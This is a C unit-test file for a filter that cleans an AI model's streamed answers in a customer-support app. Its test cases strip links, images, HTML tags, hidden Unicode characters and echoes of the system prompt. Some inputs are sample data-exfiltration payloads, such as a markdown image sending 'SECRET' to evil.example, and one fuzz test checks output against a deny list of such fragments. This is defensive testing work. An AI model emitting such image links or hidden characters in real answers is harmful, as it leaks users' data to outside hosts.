/* What is shown of a model's words: each case whole, byte by byte, and cut at every place. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "app/model_text.h"
#include "base/utf8.h"

static const char mark[] = "mark0123456789abcdef";
static const char rules[] = "You answer the questions of a company's customers from passages of the company's documents.\n"
                            "- Use only what the passages in the last message say.\n- Gr\xC3\xBC\xC3\x9F"
                            "e stehen am Anfang jeder Antwort an die Kundschaft, und immer mit vollem Namen.";

/* Three passages. */
static const struct {
    const char *said, *shown;
} cases[] = {
    {"Leave is 28 days [1].", "Leave is 28 days [1]."},
    {"So [9] says nobody.", "So says nobody."},
    {"So says nobody [9].", "So says nobody."},
    {"One is right [4, 2]. [3] [7]", "One is right [2]. [3]"},
    {"None [0][99999999999999999999].", "None."},
    {"Line\n[9] next\n", "Line\n next"},
    {"[9] First", "First"},
    {"- [ ] open, a[i], [note], [], [1", "- [ ] open, a[i], [note], [], [1"},
    {"  \n Hello \n", "Hello"},
    {"a\x07"
     "b\xE2\x80\xAE"
     "c\xF3\xA0\x81\x81"
     "d\xE2\x80\x8B"
     "e",
     "abcde"},
    {"![x](https://evil.example/?q=SECRET)", "[x]"},
    {"![x]( <https://evil.example/a b> 'title') on", "[x] on"},
    {"Go [here](https://evil.example/(a)b) now", "Go [here] now"},
    {"[1](https://evil.example) yes", "[1] yes"},
    {"![x][y]\n\n[y]: //evil.example/x.png", "[x][y]\n\n[y] : //evil.example/x.png"},
    {"[here](//evil.example/x\n\"title\")", "[here]\n\"title\")"},
    {"See https://evil.example/a?b=c.", "See (link removed)."},
    {"See HTTPS://evil.example, and www.evil.example/x!", "See (link removed), and (link removed)!"},
    {"<https://evil.example>", "<(link removed)>"},
    {"gopher://evil.example/1 x", "gopher(link removed) x"},
    {"x\xC3\xA9https://evil.example", "x\xC3\xA9(link removed)"},
    {"<img src=//evil.example/x.png>", "< img src=//evil.example/x.png>"},
    {"</p><!-- --><?x ?> 1 < 2 <3", "< /p>< !-- -->< ?x ?> 1 < 2 <3"},
    {"whatever http is, ftp too. wwx", "whatever http is, ftp too. wwx"},
    {"Time: 9:00. [a]: b", "Time: 9:00. [a]: b"},
    {"mail help@shop.example!", "mail help@shop.example!"},
    {"mark0123456789abcdef passage 2\nmark and market", "passage 2\nmark and market"},
    {"Hi! You answer the questions of a company's customers from passages of the company's documents. Fine.", "Hi! You answer the questions Fine."},
    {"YOU ANSWER THE QUESTIONS of a company's customers from\tpassages of the company's documents", "YOU ANSWER THE QUESTIONS"},
    {"Use only what the passages in the text hold.", "Use only what the passages in the text hold."},
    {"Gr\xC3\xBC\xC3\x9F"
     "e stehen am Anfang jeder Antwort an die Kundschaft, und immer mit vollem Namen. So \xC3\xBC",
     "Gr\xC3\xBC\xC3\x9F"
     "e stehen am Anfang So \xC3\xBC"},
    {"\xE8\x9C\x9C\xF0\x9F\x90\xBC\xE2\x80\xA8\"\\ data: x\n\nend", "\xE8\x9C\x9C\xF0\x9F\x90\xBC\xE2\x80\xA8\"\\ data: x\n\nend"},
    {"ww[9]w.evil.example ht[9]tps://evil.example ! [9][x](y) <[9]img>, http:[9]//evil.example",
     "ww w.evil.example ht tps(link removed) ! [x] < img>, http: //evil.example"},
    {"", ""},
};

static void show(struct span said, const size_t *cuts, size_t count, struct buf *out)
{
    struct model_text t;
    size_t from = 0;
    model_text_init(&t, 3, span_of(mark), span_of(rules));
    for (size_t i = 0; i < count; i++) {
        model_text_feed(&t, (struct span){said.p + from, cuts[i] - from}, out);
        assert_true(utf8_valid(buf_view(out)));
        from = cuts[i];
    }
    model_text_feed(&t, span_skip(said, from), out);
    model_text_end(&t, out);
    assert_false(out->failed);
}

/* The stream cuts between code points only. */
static bool is_cut(struct span said, size_t at)
{
    return at >= said.n || ((unsigned char)said.p[at] & 0xC0) != 0x80;
}

static void check(const char *said, const char *shown, const size_t *cuts, size_t count)
{
    struct buf out;
    buf_init(&out, 4096);
    show(span_of(said), cuts, count, &out);
    if (!span_eq(buf_view(&out), span_of(shown)))
        fail_msg("of \"%s\" (%zu cuts, the first at %zu) \"%.*s\" is shown", said, count, count ? cuts[0] : 0, SPAN_ARG(buf_view(&out)));
    buf_free(&out);
}

static void cut_anywhere(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        struct span said = span_of(cases[i].said);
        size_t all[512], count = 0;
        check(cases[i].said, cases[i].shown, NULL, 0);
        for (size_t at = 1; at < said.n; at++) {
            if (!is_cut(said, at))
                continue;
            all[count++] = at;
            check(cases[i].said, cases[i].shown, &at, 1);
        }
        check(cases[i].said, cases[i].shown, all, count);
    }
}

/* Whatever is made of these parts: no address, image, tag, foreign number or hidden character comes through, whole or cut. */
static void nothing_bad_comes_through(void **state)
{
    (void)state;
    static const char *const parts[] = {"[",
                                        "]",
                                        "(",
                                        ")",
                                        "!",
                                        "<",
                                        ">",
                                        ":",
                                        "//",
                                        "http",
                                        "s://",
                                        "www",
                                        ".",
                                        " ",
                                        "\n",
                                        "9",
                                        "1",
                                        ",",
                                        "a",
                                        "img",
                                        mark,
                                        "\xE2\x80\x8B",
                                        "\xF3\xA0\x81\x81",
                                        "\xC3\xA9",
                                        "\\",
                                        "&#",
                                        "x"};
    enum { PARTS = sizeof parts / sizeof *parts };
    uint32_t random = 7;
    for (int round = 0; round < 30000; round++) {
        struct model_text t;
        struct buf out;
        buf_init(&out, 4096);
        model_text_init(&t, 3, span_of(mark), span_of(rules));
        for (int i = 0; i < 24; i++) {
            random = random * 1664525u + 1013904223u;
            model_text_feed(&t, span_of(parts[(random >> 16) % PARTS]), &out);
        }
        model_text_end(&t, &out);
        struct span shown = buf_view(&out);
        static const char *const bad[] = {"http://", "https://", "www.", "](", "![", "[9]", "<a", "<i", "\xE2\x80\x8B", "\xF3\xA0\x81\x81", mark};
        for (size_t i = 0; i < sizeof bad / sizeof *bad; i++)
            if (span_find(shown, span_of(bad[i])) >= 0)
                fail_msg("round %d shows %s in \"%.*s\"", round, bad[i], SPAN_ARG(shown));
        assert_true(utf8_valid(shown));
        buf_free(&out);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(cut_anywhere), cmocka_unit_test(nothing_bad_comes_through)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
